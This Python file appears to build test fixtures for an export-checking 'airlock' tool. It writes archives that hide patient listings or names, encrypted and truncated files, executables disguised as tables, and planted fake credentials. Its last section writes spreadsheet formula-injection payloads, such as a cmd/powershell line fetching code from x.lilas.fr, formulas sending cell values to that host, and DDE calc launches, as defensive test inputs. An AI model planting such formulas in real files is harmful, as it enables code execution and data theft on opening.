"""Archives, unreadable, encrypted and unknown files, secrets, and formulas that act."""

import gzip
import io
import lzma
import tarfile
import zipfile
from pathlib import Path

import py7zr
from pypdf import PdfReader, PdfWriter

from tests.airlock.outputs.case import Shelf
from tests.airlock.outputs2 import data, hidden, office, pages, people
from tests.airlock.outputs2.document import Table, blocks

TABLE = """
# Outcomes at one year
Outcome | Cases | Controls
Readmission | 188 | 240
Stroke | 41 | 66
Death | 97 | 121
"""
SHOWN = blocks(TABLE, "r")
WHO = "2,480 patients"
WHEN = (2024, 5, 13, 9, 30, 0)


def write(shelf: Shelf) -> None:
    _archives(shelf)
    _shut(shelf)
    _secrets(shelf)
    _formulas(shelf)


def _member(archive: zipfile.ZipFile, name: str, text: str | bytes) -> None:
    archive.writestr(zipfile.ZipInfo(name, WHEN), text)


def _csv(rows: list[list[str]]) -> str:
    return "\n".join(",".join(row) for row in rows) + "\n"


def _archives(shelf: Shelf) -> None:
    rng = shelf.random("archives")
    given, surname = people.name(rng)
    good, bad = pages.md_text(SHOWN), _csv([people.ROW_HEAD, *people.rows(rng, 40)])

    with zipfile.ZipFile(
        shelf.unsafe("zip/results.zip", "a listing beside a table", "raw/c.csv", "Results", WHO), "w"
    ) as archive:
        _member(archive, "table.md", good)
        _member(archive, "raw/c.csv", bad)

    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as archive:
        _member(archive, "c.csv", bad)
    with zipfile.ZipFile(
        shelf.unsafe("zip/nested.zip", "an archive in an archive", "old.zip", "Results", WHO), "w"
    ) as archive:
        _member(archive, "table.md", good)
        _member(archive, "old.zip", inner.getvalue())

    with zipfile.ZipFile(
        shelf.unsafe("zip/comment.zip", "an IPP in the comment of the archive", "the comment", "Results", WHO), "w"
    ) as archive:
        _member(archive, "table.md", good)
        archive.comment = f"patient {people.ipp(rng)}".encode()

    with zipfile.ZipFile(
        shelf.unsafe("zip/names.zip", "a patient's name as the name of a member", "the member", "Results", WHO), "w"
    ) as archive:
        _member(archive, f"courbes/Mme_{surname}_{given}.md", good)

    for ending, mode in (("tar", "w"), ("tgz", "w:gz")):
        path = shelf.unsafe(f"{ending}/bundle.{ending}", "a listing in the archive", "c.csv", "Results", WHO)
        with tarfile.open(path, mode) as archive:  # type: ignore[call-overload]
            for name, text in (("table.md", good), ("c.csv", bad)):
                info = tarfile.TarInfo(name)
                info.size = len(text.encode())
                archive.addfile(info, io.BytesIO(text.encode()))

    path = shelf.unsafe("gz/table.md.gz", "a patient's name in the gzip header", "the original name", "Results", WHO)
    with path.open("wb") as raw, gzip.GzipFile(f"M_{surname}_{given}.md", "wb", fileobj=raw, mtime=0) as out:
        out.write(good.encode())
    with py7zr.SevenZipFile(
        shelf.unsafe("7z/results.7z", "a listing in the archive", "c.csv", "Results", WHO), "w"
    ) as seven:
        seven.writestr(bad, "c.csv")
    path = shelf.unsafe("xz/cohort.csv.xz", "a listing, compressed", "every row", "Results", WHO)
    path.write_bytes(lzma.compress(bad.encode()))

    with zipfile.ZipFile(
        shelf.safe("zip/tables.zip", "an archive of aggregated tables", "Tables of the article", WHO), "w"
    ) as archive:
        _member(archive, "table1.md", good)
        _member(archive, "table1.tex", pages.tex_text(SHOWN))
        _member(archive, "README.md", "# Tables\n\nWritten with pandas 2.2; 2 tables, 3 outcomes.\n")
    path = shelf.safe("tar/code.tar", "an archive of scripts", "Code of the article", "")
    with tarfile.open(path, "w") as archive:
        for name, text in (("run.py", "from study import fit\n\nfit(seed=7, folds=5)\n"), ("table.md", good)):
            info = tarfile.TarInfo(name)
            info.size = len(text.encode())
            archive.addfile(info, io.BytesIO(text.encode()))
    path = shelf.safe("gz/outcomes.csv.gz", "a compressed table of groups", "Outcomes", WHO)
    with path.open("wb") as raw, gzip.GzipFile("outcomes.csv", "wb", fileobj=raw, mtime=0) as out:
        out.write(b"outcome,cases,controls\nreadmission,188,240\nstroke,41,66\ndeath,97,121\n")


def _shut(shelf: Shelf) -> None:
    rng = shelf.random("shut")

    def path(file: str, way: str) -> Path:
        return shelf.unsafe(file, way, "the whole file", "Results of the study", WHO)

    plain = shelf.path("parts/outcomes.pdf")
    pages.pdf_file(plain, SHOWN)
    writer = PdfWriter(clone_from=PdfReader(plain))
    writer.encrypt("lilas-2024", algorithm="AES-256")
    writer.write(path("pdf/outcomes_p.pdf", "encrypted PDF"))
    with py7zr.SevenZipFile(
        path("7z/tables_p.7z", "encrypted archive"), "w", password="lilas-2024", header_encryption=True
    ) as seven:
        seven.writestr(pages.md_text(SHOWN), "table.md")
    package = hidden.vba_project().replace(
        "VBA\0dir\0_VBA_PROJECT\0".encode("utf-16-le"), "EncryptedPackage\0EncryptionInfo\0".encode("utf-16-le")
    )
    path("xlsx/outcomes_p.xlsx", "encrypted workbook").write_bytes(package + rng.randbytes(4000))

    whole = path("xlsx/outcomes_t.xlsx", "a workbook cut short")
    office.xlsx_file(whole, SHOWN)
    whole.write_bytes(whole.read_bytes()[:2500])
    path("pdf/outcomes_t.pdf", "a PDF that cannot be read").write_bytes(b"%PDF-1.7\n" + rng.randbytes(3000))
    path("parquet/outcomes_t.parquet", "a Parquet file without its footer").write_bytes(b"PAR1" + rng.randbytes(2000))
    path("json/outcomes_t.json", "JSON cut short").write_text('{"auc": 0.81, "table": [{"outcome": "death", "n"')
    path("docx/outcomes_t.docx", "no Word document at all").write_bytes(rng.randbytes(5000))
    whole = path("png/outcomes_t.png", "a picture cut short")
    pages.png_file(whole, SHOWN)
    whole.write_bytes(whole.read_bytes()[:900])
    for file, way in (
        ("bin/weights.bin", "unknown type"),
        ("dat/model.dat", "unknown type"),
        ("other/results", "unknown type, without an ending"),
    ):
        path(file, way).write_bytes(rng.randbytes(6000))
    path("exe/viewer.exe", "a program").write_bytes(
        b"MZ" + bytes(58) + b"\x80\0\0\0" + bytes(64) + b"PE\0\0" + rng.randbytes(3000)
    )
    path("csv/table_x.csv", "a program under the name of a table").write_bytes(
        b"\x7fELF\x02\x01\x01" + bytes(9) + rng.randbytes(3000)
    )


def _secrets(shelf: Shelf) -> None:
    rng = shelf.random("secrets")
    token = "".join(rng.choice("abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789") for _ in range(40))
    key = "\n".join(
        "".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/") for _ in range(64))
        for _ in range(12)
    )
    for file, way, where, text in (
        (
            "py/load.py",
            "a password",
            "line 3",
            f"import duckdb\n\nPASSWORD = '{token[:18]}'\nconnect(user='etl', password=PASSWORD)\n",
        ),
        (
            "R/connexion.R",
            "un mot de passe",
            "dbConnect",
            f"con <- dbConnect(Postgres(), user = 'etl', password = '{token[5:21]}')\n",
        ),
        (
            "sql/attach.sql",
            "a password in an address",
            "line 1",
            f"ATTACH 'postgres://etl:{token[8:26]}@warehouse.local/omop' AS w;\n",
        ),
        (
            "log/deploy.log",
            "a bearer token",
            "line 2",
            f"INFO GET /api/v1/jobs\nDEBUG Authorization: Bearer {token}\nINFO 200\n",
        ),
        (
            "md/install.md",
            "a private key",
            "the block",
            f"# Set up\n\n-----BEGIN RSA PRIVATE KEY-----\n{key}\n-----END RSA PRIVATE KEY-----\n",
        ),
        (
            "yaml/config.yaml",
            "an access key",
            "aws_secret_access_key",
            f"bucket: results\naws_access_key_id: AKIA{token[:16].upper()}\naws_secret_access_key: {token}\n",
        ),
        ("json/settings.json", "an API key", "api_key", f'{{"model": "xgb", "api_key": "sk-{token}"}}\n'),
    ):
        shelf.unsafe(file, f"a secret: {way}", where, "Code of the study", "").write_text(text)
    path = shelf.unsafe("ipynb/acces.ipynb", "a secret: a token in a cell", "cell 1", "Notebook", "")
    data.notebook_file(path, [data.code_cell(f"import os\nos.environ['GITLAB_TOKEN'] = 'glpat-{token[:20]}'")])


def _formulas(shelf: Shelf) -> None:
    for file, cell in (
        ("csv/outcomes_f1.csv", "=cmd|' /C powershell iwr x.lilas.fr/a'!A0"),
        ("csv/outcomes_f2.csv", '=HYPERLINK("http://x.lilas.fr/?v="&B2&B3,"details")'),
        ("tsv/outcomes_f3.tsv", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("xlsx/outcomes_f4.xlsx", '=WEBSERVICE("http://x.lilas.fr/?v="&B4)'),
        ("xlsx/outcomes_f5.xlsx", '=DDE("cmd","/C calc","x")'),
    ):
        path = shelf.unsafe(file, "a formula that acts when opened", cell[:24], "Outcomes", WHO)
        rows = [
            ["Outcome", "Cases", "Controls"],
            ["Stroke", "41", "66"],
            ["Death", "97", "121"],
            [cell, "188", "240"],
        ]
        data.WRITERS[path.suffix[1:]](path, [Table("Outcomes", rows, [])])
